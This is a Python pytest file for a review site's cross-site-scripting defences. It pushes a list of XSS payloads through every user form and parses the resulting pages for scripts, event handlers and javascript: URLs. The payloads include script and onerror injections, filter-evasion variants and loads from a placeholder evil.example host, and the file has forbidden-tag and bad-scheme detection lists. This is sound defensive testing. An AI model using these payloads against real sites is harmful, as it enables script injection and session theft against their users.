"""User text never comes back as live markup.

Every payload goes in through the real forms (display name, maker name/location/bio/website,
review title/body, order item, reply, flag note, moderation note), then every page that shows
it is parsed with the stdlib HTMLParser and checked: no <script>, no on* attribute, no
javascript:/data: URL, no element that only user text could have brought (img, iframe, svg
other than the score bars, ...), and every outside link carries rel="nofollow ugc". The
payload must also be *visible* as text on each page, so a page that silently dropped it
cannot pass.
"""
from __future__ import annotations

import itertools
import re
from html.parser import HTMLParser

import pytest

from craftreview import search
from craftreview.models import utcnow
from craftreview.services import makers, orders, replies
from craftreview.services.reviews import submit_review
from craftreview.text import clean_input, render_inline, render_user_text
from tests.conftest import PASSWORD, login, review_input

# At most 60 characters each: they must fit the shortest field (display name).
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>">',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    "javascript:alert(document.cookie)",
    'www.example.com"onmouseover=alert(1)',
    'http://example.com/"onmouseover="alert(1)',
    "https://example.com/'><svg onload=alert(1)>",
    "http://example.com/?a=1&b=<img src=x onerror=alert(1)>",
    "javascript:alert(1)//http://example.com",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img """><script>alert(1)</script>">',
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<b onmouseover=alert(1)>bold</b>",
    '<div style="background:url(javascript:alert(1))">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<form action="javascript:alert(1)"><button>x</button>',
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    '<base href="//evil.example/">',
    "<style>@import'//evil.example/x.css';</style>",
    "<scr\u200bipt>alert(1)</scr\u200bipt> zero\u200dwidth",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "java\x00script:alert(1) <img src=x\x0conerror=alert(1)>",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "line one\n\n<script>alert(2)</script>\nhttp://example.com/x",
]
PAYLOAD_PARAMS = [pytest.param(p, id=f"p{n:02d}") for n, p in enumerate(PAYLOADS)]
BAD_WEBSITES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "  javascript:alert(1)", "java\tscript:alert(1)",
    "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "//evil.example/", "www.example.com", "ftp://example.com/file",
]

# Elements no template emits in the body; only user text could bring them in.
FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "img", "image", "math", "style", "base",
    "applet", "video", "audio", "source", "marquee", "template", "noscript", "xmp", "plaintext", "mi",
}
URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster", "srcset",
             "codebase", "cite", "ping", "lowsrc", "dynsrc"}
BAD_SCHEMES = ("javascript:", "data:", "vbscript:", "livescript:")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f\u200b-\u200f\u2028-\u202e\u2060\ufeff]")


class PageScan(HTMLParser):
    """Every start tag with its attributes, and the text content, of one HTML document."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.chunks: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_data(self, data):
        self.chunks.append(data)

    @property
    def text(self) -> str:
        return "".join(self.chunks)


def _scheme_of(url: str) -> str:
    # Browsers ignore tabs/newlines inside a URL and spaces around it: normalise the same way.
    return _INVISIBLE.sub("", url).lower()


def _element_problems(tag: str, attrs: list[tuple[str, str | None]]) -> list[str]:
    found = []
    values = {name: value or "" for name, value in attrs}
    if tag in FORBIDDEN_TAGS:
        found.append(f"<{tag}> element")
    if tag == "svg" and values.get("class") not in ("bar", "chart-svg"):
        found.append("<svg> that is not a score bar or chart")
    if tag == "meta" and "http-equiv" in values:
        found.append("<meta http-equiv>")
    for name, value in values.items():
        if name.startswith("on"):
            found.append(f"<{tag} {name}=...> event handler")
        if name == "style":
            found.append(f"<{tag} style=...>")
        if name in URL_ATTRS and _scheme_of(value).startswith(BAD_SCHEMES):
            found.append(f"<{tag} {name}={value!r}>")
    if tag == "a":
        found.extend(_link_problems(values))
    return found


def _link_problems(values: dict[str, str]) -> list[str]:
    href = values.get("href", "")
    if href.startswith(("/", "#", "?")) and not href.startswith("//"):
        return []  # the site's own links
    if not _scheme_of(href).startswith(("http://", "https://", "mailto:")):
        return [f"<a href={href!r}> with an unexpected target"]
    rel = values.get("rel", "").split()
    if not {"nofollow", "ugc"} <= set(rel):
        return [f"outside link {href!r} without rel=nofollow ugc (rel={rel})"]
    return []


def live_markup(html: str) -> list[str]:
    """Every sign of user-controlled live markup in a document (empty when the page is safe)."""
    scan = PageScan(html)
    return [problem for tag, attrs in scan.elements for problem in _element_problems(tag, attrs)]


def visible_lines(payload: str) -> list[str]:
    """The payload as a reader should see it: cleaned like stored text, line by line."""
    return [line.strip() for line in clean_input(payload).split("\n") if line.strip()]


def outside_links(html: str) -> list[dict[str, str]]:
    return [{k: v or "" for k, v in attrs} for tag, attrs in PageScan(html).elements
            if tag == "a" and dict(attrs).get("href", "").startswith(("http://", "https://"))]


# ---------------------------------------------------------------------------------------------
# The checker itself must be able to fail
# ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("html", [
    "<p><script>alert(1)</script></p>", "<img src=x onerror=alert(1)>", "<b onmouseover=x>b</b>",
    '<a href="javascript:alert(1)">x</a>', '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<iframe src="data:text/html,x"></iframe>', "<svg onload=alert(1)>", '<a href="https://evil.example">x</a>',
    '<a href="https://ok.example" rel="noopener">x</a>', '<div style="x">', '<form action="javascript:x">',
    '<a href="//evil.example/">x</a>', "<meta http-equiv=refresh content=0>",
])
def test_checker_recognises_live_markup(html):
    assert live_markup(html)


def test_checker_accepts_the_sites_own_markup():
    html = ('<a href="/makers/x">x</a><svg class="bar"><rect></rect></svg><svg class="chart-svg"><path></path></svg>'
            '<form method="post" action="/logout">'
            '<a href="https://example.com" rel="nofollow ugc noopener">site</a><details><summary>v1</summary></details>')
    assert live_markup(html) == []


# ---------------------------------------------------------------------------------------------
# craftreview.text directly
# ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("payload", PAYLOAD_PARAMS)
def test_render_inline_escapes_everything(payload):
    html = str(render_inline(payload))
    assert live_markup(html) == []
    assert PageScan(html).elements == []
    assert PageScan(html).text == clean_input(payload)


@pytest.mark.parametrize("payload", PAYLOAD_PARAMS)
def test_render_user_text_keeps_text_and_only_adds_paragraphs_and_safe_links(payload):
    html = str(render_user_text(payload))
    scan = PageScan(html)
    assert live_markup(html) == []
    assert {tag for tag, _ in scan.elements} <= {"p", "br", "a"}
    for line in visible_lines(payload):
        assert line in scan.text


@pytest.mark.parametrize("text", [
    "See https://example.com/page for photos.", "Shop at www.example.org today.", "http://example.com/?a=1&b=2",
])
def test_render_user_text_links_urls_with_nofollow_ugc(text):
    links = outside_links(str(render_user_text(text)))
    assert len(links) == 1
    assert {"nofollow", "ugc"} <= set(links[0]["rel"].split())


@pytest.mark.parametrize("text", ["javascript:alert(1)", "data:text/html,hi", "ftp://example.com/x",
                                  "vbscript:msgbox(1)", "<a href='https://example.com'>x</a>"])
def test_render_user_text_links_nothing_but_web_urls(text):
    html = str(render_user_text(text))
    assert all(link["href"].startswith(("http://", "https://")) for link in outside_links(html))
    assert "javascript:" not in "".join(link["href"] for link in outside_links(html))
    assert PageScan(html).text == text


# ---------------------------------------------------------------------------------------------
# Through the forms and onto every page
# ---------------------------------------------------------------------------------------------

_slugs = itertools.count(1)
SEARCH_WORD = "zebrawood"


def _post(client, url: str, data: dict, status: int = 302):
    response = client.post(url, data=data)
    body = response.get_data(as_text=True)
    errors = re.findall(r'role="alert">(.*?)<', body)
    assert response.status_code == status, f"POST {url} -> {response.status_code}: {errors or body[:1500]}"
    return response


def _rename(client, user, name: str) -> None:
    login(client, user)
    _post(client, "/account/name", {"nm-display_name": name})


def _review_form(title: str, body: str) -> dict:
    return {"craftsmanship": "4", "consistency": "5", "delivery": "3", "title": title, "body": body}


class Site:
    """Drives the site as several users; collects the pages to check."""

    def __init__(self, app, users: dict):
        self.app, self.users, self.client = app, users, app.test_client()
        self.pages: list[tuple[str, str, str]] = []   # (who, url, html)

    def as_(self, who: str):
        self.client = self.app.test_client()
        if who != "anonymous":
            login(self.client, self.users[who])
        return self.client

    def visit(self, who: str, url: str) -> None:
        response = self.as_(who).get(url)
        assert response.status_code == 200, f"{who} GET {url} -> {response.status_code}"
        self.pages.append((who, url, response.get_data(as_text=True)))


def _fill_every_field(site: Site, payload: str) -> dict:
    """Put the payload in every user text field through the forms; returns ids and URLs."""
    for who in ("author", "owner", "flagger", "moderator"):
        _rename(site.as_(who), site.users[who], payload)
    slug = f"xss-maker-{next(_slugs)}"
    _post(site.as_("owner"), "/makers/new", {
        "name": payload, "slug": slug, "craft": "wood", "location": payload, "bio": f"{payload}\n\n{SEARCH_WORD}",
        "website": f"https://example.com/?q={payload}", "accepts_custom": "y", "lead_time_days": "10"})
    body = f"{payload}\n\n{SEARCH_WORD} bowl. Photos at https://example.com/photos and www.example.org."
    response = _post(site.as_("author"), f"/makers/{slug}/review", _review_form(payload, body))
    review = int(response.headers["Location"].rsplit("/", 1)[1])
    _post(site.client, f"/reviews/{review}/edit", _review_form(f"{payload} v2", body + " Edited."))
    # An item name may not hold a web address (the invitation mail quotes it): such a payload goes in with its
    # addresses replaced, the rest of its markup kept.
    item = orders.WEB_ADDRESS.sub("link", payload)
    response = site.as_("owner").post("/dashboard", follow_redirects=True, data={
        "buyer_email": site.users["reader"].email, "item": item, "order_type": "custom", "price_band": "100-300",
        "ordered_on": "2025-01-02"})
    assert response.status_code == 200
    token = re.search(r"/invite/([A-Za-z0-9_-]+)", response.get_data(as_text=True)).group(1)
    return {"slug": slug, "review": review, "token": token}


def _visit_every_page(site: Site, payload: str, ids: dict) -> None:
    slug, review = ids["slug"], ids["review"]
    site.visit("owner", "/dashboard")   # before the reply: the review waits for one
    _post(site.as_("owner"), f"/reviews/{review}/reply", {"body": f"{payload} Thank you."})
    _post(site.as_("flagger"), f"/reviews/{review}/flag", {"reason": "other", "note": payload})
    for who, url in [
        ("anonymous", "/"), ("anonymous", "/makers"), ("anonymous", f"/makers/{slug}"),
        ("anonymous", f"/makers/{slug}/score"), ("anonymous", f"/reviews/{review}"),
        ("reader", f"/makers/{slug}"), ("reader", f"/invite/{ids['token']}"), ("reader", f"/reviews/{review}/flag"),
        ("author", "/account"), ("author", "/me/reviews"), ("author", f"/reviews/{review}/edit"),
        ("owner", f"/makers/{slug}/edit"), ("owner", f"/reviews/{review}/reply"), ("owner", "/dashboard"),
        ("moderator", "/moderation"), ("moderator", f"/moderation/reviews/{review}"),
    ]:
        site.visit(who, url)
    _post(site.as_("moderator"), f"/moderation/reviews/{review}/hide", {"hide-reason": "spam", "hide-note": payload})
    for who, url in [("moderator", "/moderation/log"), ("moderator", f"/moderation/reviews/{review}"),
                     ("author", f"/reviews/{review}"), ("author", "/me/reviews")]:
        site.visit(who, url)


@pytest.fixture
def xss_users(db, make_user) -> dict:
    reader = make_user("reader")
    reader.email_confirmed_at = utcnow()  # the invited buyer: only their confirmed account opens the invitation
    db.commit()
    owner = make_user("owner")
    owner.email_confirmed_at = utcnow()  # a maker records orders (mails invitations) only once confirmed
    db.commit()
    return {"author": make_user("author"), "owner": owner, "flagger": make_user("flagger"),
            "moderator": make_user("moderator", moderator=True), "reader": reader}


@pytest.mark.parametrize("payload", PAYLOAD_PARAMS)
def test_payload_in_every_field_is_shown_as_text_on_every_page(app, xss_users, payload):
    site = Site(app, xss_users)
    ids = _fill_every_field(site, payload)
    _visit_every_page(site, payload, ids)
    problems = [f"{who} GET {url}: {problem}" for who, url, html in site.pages for problem in live_markup(html)]
    assert problems == []
    missing = [f"{who} GET {url}" for who, url, html in site.pages
               if not all(line in PageScan(html).text for line in visible_lines(payload))]
    assert missing == [], "the payload is not visible as text on these pages"
    assert len(site.pages) == 21


def _assert_safe_and_visible(pages: list[tuple[str, str, str]], payloads: list[str]) -> None:
    problems = [f"{who} GET {url}: {problem}" for who, url, html in pages for problem in live_markup(html)]
    assert problems == []
    text = "".join(PageScan(html).text for _who, _url, html in pages)
    missing = [p for p in payloads if not all(line in text for line in visible_lines(p))]
    assert missing == [], "these payloads were never shown as text"


@pytest.mark.parametrize("payload", PAYLOAD_PARAMS[:8])
def test_login_welcome_flash_shows_display_name_as_text(client, make_user, db, payload):
    user = make_user("flash")
    user.display_name = clean_input(payload)
    db.commit()
    response = client.post("/login", data={"email": user.email, "password": PASSWORD}, follow_redirects=True)
    assert response.status_code == 200
    assert "Welcome back" in response.get_data(as_text=True)
    _assert_safe_and_visible([("user", "/login", response.get_data(as_text=True))], [payload])


def test_search_results_facets_and_suggestions_show_user_text_as_text(app, client, db, make_user):
    """Every payload as a maker (name, location, bio) and a review (title, body, reply), found by search."""
    author = make_user("author")
    for n, payload in enumerate(PAYLOADS):
        owner = make_user(f"owner{n}")
        maker = makers.create_maker(db, owner, makers.MakerInput(  # numbered: payloads alike but for case share a name
            name=f"{payload} {n}", slug=f"search-maker-{n}", craft="wood", location=payload,
            bio=f"{payload} {SEARCH_WORD}"))
        review = submit_review(db, author, maker, review_input(title=payload, body=f"{payload} {SEARCH_WORD} bowl"))
        replies.save_reply(db, owner, review, f"{payload} reply")
    search.drain(app, lock_timeout=30)
    pages = []
    for tab in ("makers", "reviews"):
        for page in range(1, len(PAYLOADS) // 10 + 2):
            url = f"/search?q={SEARCH_WORD}&tab={tab}&page={page}"
            response = client.get(url)
            assert response.status_code == 200, url
            pages.append(("anonymous", url, response.get_data(as_text=True)))
    for url in (f"/search?q={SEARCH_WORD[:-1]}x", "/search?q=alert", "/search?q=script&tab=reviews",
                "/search?q=onerror+img", "/search?q=location:example"):
        response = client.get(url)
        assert response.status_code == 200, url
        pages.append(("anonymous", url, response.get_data(as_text=True)))
    _assert_safe_and_visible(pages, PAYLOADS)


def test_review_page_links_urls_in_the_body_with_nofollow_ugc(app, xss_users):
    site = Site(app, xss_users)
    ids = _fill_every_field(site, "A plain name")
    site.visit("anonymous", f"/reviews/{ids['review']}")
    hrefs = {link["href"]: link["rel"] for link in outside_links(site.pages[-1][2])}
    assert {"https://example.com/photos", "http://www.example.org"} <= set(hrefs)
    assert all({"nofollow", "ugc"} <= set(rel.split()) for rel in hrefs.values())


@pytest.mark.parametrize("payload", PAYLOAD_PARAMS[:12])
def test_search_query_is_reflected_as_text(client, payload):
    response = client.get("/search", query_string={"q": payload})
    assert response.status_code == 200
    assert live_markup(response.get_data(as_text=True)) == []


@pytest.mark.parametrize("payload", PAYLOAD_PARAMS[:12])
def test_url_paths_and_arguments_are_reflected_as_text(client, make_user, payload):
    """404 pages, the login link's `next`, listing filters and search filters echo the URL safely."""
    login(client, make_user("moderator", moderator=True))
    pages = []
    for url, args in [(f"/makers/{payload}", None), (f"/makers/{payload}/score", None), ("/makers", {"craft": payload,
                      "sort": payload, "page": payload}), ("/search", {"q": "oak", "tab": payload, "sort": payload,
                      "craft": payload, "location": payload, "page": payload}), ("/moderation", {"page": payload})]:
        response = client.get(url, query_string=args)
        assert response.status_code in (200, 404), f"{url} {args} -> {response.status_code}"
        pages.append(response.get_data(as_text=True))
    anonymous = client.application.test_client()
    pages.append(anonymous.get(f"/makers/{payload}").get_data(as_text=True))  # "Log in" link carries next=path
    pages.append(anonymous.get("/login", query_string={"next": payload}).get_data(as_text=True))
    assert [problem for html in pages for problem in live_markup(html)] == []


@pytest.mark.parametrize("website", [pytest.param(w, id=f"w{n}") for n, w in enumerate(BAD_WEBSITES)])
def test_maker_website_must_be_http_or_https(client, make_user, db, website):
    login(client, make_user("owner"))
    response = client.post("/makers/new", data={"name": "Web Maker", "slug": "web-maker", "craft": "wood",
                                                "website": website})
    body = response.get_data(as_text=True)
    assert response.status_code == 400  # the form is shown again with its error
    assert "The website must start with http:// or https://." in body
    assert client.get("/makers/web-maker").status_code == 404
    assert live_markup(body) == []


def test_maker_website_with_quotes_stays_inside_its_href(client, make_user):
    login(client, make_user("owner"))
    website = 'https://example.com/"onmouseover="alert(1)'
    _post(client, "/makers/new", {"name": "Web Maker", "slug": "web-maker", "craft": "wood", "website": website})
    html = client.get("/makers/web-maker").get_data(as_text=True)
    assert live_markup(html) == []
    assert [link["href"] for link in outside_links(html)] == [website]
